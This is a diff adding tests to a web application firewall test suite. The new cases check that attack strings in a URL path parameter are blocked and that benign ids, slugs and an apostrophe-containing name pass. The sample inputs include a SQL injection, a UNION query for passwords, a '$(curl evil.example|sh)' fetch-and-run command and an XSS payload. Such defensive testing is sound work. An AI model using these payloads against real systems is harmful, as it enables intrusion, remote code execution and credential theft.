@@ -264,6 +264,30 @@ describe('WAF limits, multipart, headers, cookies, encodings and HTTP/2 bodies',
     });
   });
 
+  describe('path parameters', () => {
+    test.each([
+      ['SQL injection', `/b/items/${encodeURIComponent("1' OR '1'='1")}`],
+      ['a UNION query', `/b/items/${encodeURIComponent('1 union select password from users')}`],
+      ['a shell command', `/b/items/${encodeURIComponent('$(curl evil.example|sh)')}`],
+      ['XSS', `/b/items/${encodeURIComponent('<svg onload=alert(1)>')}`],
+    ])('%s in a path parameter is judged like an argument and blocked', async (_d, path) => {
+      const r = await send(path);
+      expect(r.status).toBe(403);
+      expect(r.problem?.code).toBe('PC_WAF_BLOCKED');
+      expect(r.reached).toEqual([]);
+    });
+
+    test.each([
+      ['an id', '/b/items/7f3c-91ab'],
+      ['a name with an apostrophe', `/b/items/${encodeURIComponent("O'Brien")}`],
+      ['a slug', '/b/items/summer-sale-2026'],
+    ])('%s passes', async (_d, path) => {
+      const r = await send(path);
+      expect(r.status).toBe(200);
+      expect(r.reached).toHaveLength(1);
+    });
+  });
+
   describe('headers and cookies', () => {
     test.each([
       'x-real-ip',
